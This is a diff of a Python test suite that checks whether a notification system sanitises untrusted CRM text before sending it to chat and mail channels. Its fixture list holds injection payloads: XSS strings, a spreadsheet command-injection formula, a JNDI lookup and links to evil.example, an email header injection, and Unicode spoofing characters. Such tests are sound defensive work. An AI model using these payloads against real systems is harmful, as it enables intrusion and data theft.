@@ -25,12 +25,16 @@ EVIL = [
     "![x](https://evil.example/x.png)", "[bank](javascript:alert(1))", "\\[bank](https://evil.example)", "[bank][1]\n\n[1]: https://evil.example",
     "<https://evil.example>", "@everyone", "@here @channel @all", "<@&123456789012345678>", "<@!123456789012345678>", "<:e:1234>", "<t:1618953630:R>",
     "<users/all>", "<users/123>", "<at>Ann Lee</at>", "{{DATE(2026-01-01T00:00:00Z)}}", "||spoiler||", "> quoted", "# heading", "- item", "1. item",
-    "| a | b |\n|---|---|\n| c | d |", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onload='alert(1)", "</td></table><script>alert(1)</script>",
+    "| a | b |\n|---|---|\n| c | d |", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
+    "' onload='alert(1)", "</td></table><script>alert(1)</script>",
     "<style>*{display:none}</style>", "<svg/onload=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "<a href='https://evil.example'>bank</a>",
-    "<a href=\"javascript:alert(1)\">x</a>", "<!-- gone", "]]>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
-    "expression(alert(1))", "url(https://evil.example)", "abc\u202egnp.exe", "\u202aabc\u202b\u202c\u202d", "\u2066abc\u2067\u2068\u2069", "pay\u200bpal\u200c\u200d\u2060\ufeff",
+    "<a href=\"javascript:alert(1)\">x</a>", "<!-- gone", "]]>",
+    "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "expression(alert(1))", "url(https://evil.example)", "abc\u202egnp.exe", "\u202aabc\u202b\u202c\u202d",
+    "\u2066abc\u2067\u2068\u2069", "pay\u200bpal\u200c\u200d\u2060\ufeff",
     "\u200e\u200f\u061c", "line\u2028line\u2029", "a\x00b", "a\x85b", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1+1", "@SUM(1)",
-    "\t=1+1", "\r=1+1", " =1+1", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\", "\x9b31m", "\x08\x08\x7f", "%s%n%x",
+    "\t=1+1", "\r=1+1", " =1+1", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\", "\x9b31m", "\x08\x08\x7f", "%s%n%x",
     "{{key}}", "${jndi:ldap://evil.example}", "\nBcc: evil@evil.example\n", "\r\n.\r\n", "a" * 3000,
 ]
 HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\u061c]")
@@ -55,7 +59,8 @@ channels:
   chat: {{ kind: google_chat, url: "env:CHAT" }}
   discord: {{ kind: discord, url: "env:DISCORD" }}
 {more}owners:
-  - {{ email: mia@acme.example, name: {owner}, role: manager, at: "08:00", capacity: 50, channels: [mail, hook, files, slack, api, teams, chat, discord{names}] }}
+  - {{ email: mia@acme.example, name: {owner}, role: manager, at: "08:00", capacity: 50,
+      channels: [mail, hook, files, slack, api, teams, chat, discord{names}] }}
 """
 
 
@@ -66,10 +71,12 @@ def organisation(case, evil="Mia", more="", names=""):
     with sqlite3.connect(case.database()) as db:
         db.execute("INSERT INTO source (id, name, kind, last_ok_at, last_ok_on) VALUES (1, 'crm', 'csv', 1772430000, 20514)")
         for i, text in enumerate(EVIL):
-            account = db.execute("INSERT INTO account (source_id, source_key, name) VALUES (1, ?, ?)", (f"k{i}{text}", f"n{i} {text}" if i % 2 else text)).lastrowid
+            account = db.execute("INSERT INTO account (source_id, source_key, name) VALUES (1, ?, ?)",
+                                 (f"k{i}{text}", f"n{i} {text}" if i % 2 else text)).lastrowid
             db.execute("INSERT INTO finding (account_id, engine, cause, state, opened_on, updated_on, score, worst_score, confidence, value_minor, "
                        "currency, expected_minor, act_by_on, play, summary, evidence) VALUES (?, ?, 'usage_decline', 'open', ?, ?, 70, 70, 0.5, ?, 'EUR', "
-                       "70000, ?, 'reactivate', ?, ?)", (account, ("defense", "expansion")[i % 2], TODAY, TODAY, 100000 + i, TODAY + 3, text, json.dumps([text, f"x {text}"])))
+                       "70000, ?, 'reactivate', ?, ?)", (account, ("defense", "expansion")[i % 2], TODAY, TODAY, 100000 + i, TODAY + 3, text,
+                                                            json.dumps([text, f"x {text}"])))
 
 
 def bodies(case):
@@ -118,7 +125,8 @@ class Tags(HTMLParser):
         self.bad.append(f"<![{data}")
 
 
-PAGE = {"html", "head", "meta", "title", "style", "body", "div", "table", "tbody", "tr", "td", "th", "p", "h1", "h2", "h3", "h4", "span", "b", "br", "ul", "li", "a"}
+PAGE = {"html", "head", "meta", "title", "style", "body", "div", "table", "tbody", "tr", "td", "th", "p", "h1", "h2", "h3", "h4", "span", "b", "br", "ul",
+        "li", "a"}
 
 
 def slack(body):
@@ -223,7 +231,7 @@ const parser = new MarkdownIt({ html: true, linkify: false }), bad = [];
 for (const text of JSON.parse(readFileSync(0, "utf8")))
   for (const token of parser.parse(text, {}))
     for (const t of [token, ...(token.children || [])]) {
-      if (["image", "html_inline", "html_block", "blockquote_open", "table_open", "fence", "code_block", "code_inline", "heading_open", "s_open"].includes(t.type))
+      if (/^(image|html_inline|html_block|blockquote_open|table_open|fence|code_block|code_inline|heading_open|s_open)$/.test(t.type))
         bad.push(`${t.type}: ${t.content || ""}`);
       if (t.type === "link_open" && !/^https:\\/\\/crm\\.acme\\.example\\/company\\//.test(t.attrGet("href")))
         bad.push(t.attrGet("href"));
@@ -239,7 +247,7 @@ def test_markdown(case):
     written = []
     for body in bodies(case)["discord"]:
         message = json.loads(body)
-        written += [v for k, v, _ in texts({k: message[k] for k in ("content", "embeds") if k in message}) if k in ("content", "description", "value", "title", "text")]
+        written += [v for k, v, _ in texts(message) if k in ("content", "description", "value", "title", "text")]
     assert sum(map(len, written)) > 5000
     for text in written:
         mentions = re.findall(r"(?<!\\)<(?:@|#|:|t:|/|a:|id:)", text)
@@ -247,7 +255,8 @@ def test_markdown(case):
     (home / "judge.mjs").write_text(MARKDOWN)
 
     def judged(texts_):
-        return json.loads(subprocess.run(["node", "judge.mjs"], input=json.dumps(texts_), capture_output=True, text=True, cwd=home, timeout=60, check=True).stdout)
+        return json.loads(subprocess.run(["node", "judge.mjs"], input=json.dumps(texts_), capture_output=True, text=True, cwd=home, timeout=60,
+                                         check=True).stdout)
     assert not judged(written), judged(written)[:5]
     assert judged(["[bank](https://evil.example)", "![x](y)", "<b>x</b>"])
 
